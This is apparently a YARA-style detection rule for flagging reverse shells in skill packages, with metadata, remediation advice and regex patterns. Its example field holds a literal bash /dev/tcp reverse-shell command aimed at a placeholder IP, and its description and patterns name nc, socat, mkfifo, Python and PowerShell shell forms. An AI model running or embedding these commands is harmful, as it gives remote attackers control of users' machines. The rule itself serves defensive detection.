// Reverse shells (REFERENCE.md 3.5 F): interactive shells whose input and output are a network socket.

rule reverse_shell {
  meta:
    id = "reverse-shell"
    title = "Reverse shell"
    class = "malicious"
    severity = "critical"
    confidence = "high"
    capability = "proc.shell"
    extra_capability = "net.egress[*]"
    prose = "hard"
    anchor = "$py1"
    window = 400
    what = "Reports the common reverse-shell forms: `sh -i >& /dev/tcp/H/P 0>&1`, `exec N<>/dev/tcp/`, `nc`/`ncat` with `-e`/`-c` and a shell, `mkfifo ... | nc`, `socat ... exec:sh ... tcp:`, a Python socket whose descriptors are duplicated onto a shell, and PowerShell `TCPClient` streams fed to `iex`."
    why = "A reverse shell hands an interactive shell on the user's machine to a remote operator. There is no legitimate reason for a skill to contain one."
    example = "```bash\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n```"
    remediation = "Remove the code. Treat the package as compromised."
    reference = "https://attack.mitre.org/techniques/T1059/004/"
    reference = "https://attack.mitre.org/techniques/T1095/"
    reference = "https://man7.org/linux/man-pages/man1/bash.1.html"
  strings:
    $b1 = /sh\s{1,4}-i\s{0,4}[0-9]{0,2}[<>&]{1,3}\s{0,4}\/dev\/(tcp|udp)\//
    $b2 = /\/dev\/(tcp|udp)\/[^\s\/]{1,255}\/[0-9]{1,5}\s{0,4}0>&1/
    $b3 = /exec\s{1,4}[0-9]{1,3}<>\s{0,2}\/dev\/(tcp|udp)\//
    $nc = /(nc|ncat|netcat)(\.exe)?\s[^\n|;]{0,80}\s-[a-zA-Z]{0,3}[ec]\s{1,4}["']?(\/bin\/|\/usr\/bin\/)?(ba|z|da)?sh/
    $nc2 = /(nc|ncat|netcat)(\.exe)?\s[^\n|;]{0,80}\s-[a-zA-Z]{0,3}e\s{1,4}cmd(\.exe)?/ nocase
    $fifo = /mkfifo\s[^\n]{0,160}\|\s{0,4}(nc|ncat|netcat|openssl\s{1,4}s_client)\s/
    $socat1 = /socat\s[^\n]{0,120}exec:[^\n]{0,60}sh[^\n]{0,120}tcp[46]?:/ nocase
    $socat2 = /socat\s[^\n]{0,120}tcp[46]?:[^\n]{0,120}exec:[^\n]{0,40}sh/ nocase
    $py1 = /\.dup2\(\s{0,4}[a-z_]{1,20}\.fileno\(\)/
    $py2 = /\.connect\(\s{0,4}\(/
    $py3 = "pty.spawn(" 
    $py4 = /(subprocess\.(call|Popen|run)|os\.system)\(\s{0,4}\[?\s{0,4}["'](\/bin\/)?(ba|z)?sh/
    $ps1 = "Net.Sockets.TCPClient(" nocase
    $ps2 = ".GetStream()" nocase
    $ps3 = /(iex|Invoke-Expression)[\s(|;]/ nocase
  condition:
    any of ($b*) or any of ($nc*) or $fifo or any of ($socat*)
    or ($py1 and $py2 and ($py3 or $py4))
    or ($ps1 and $ps2 and $ps3)
}
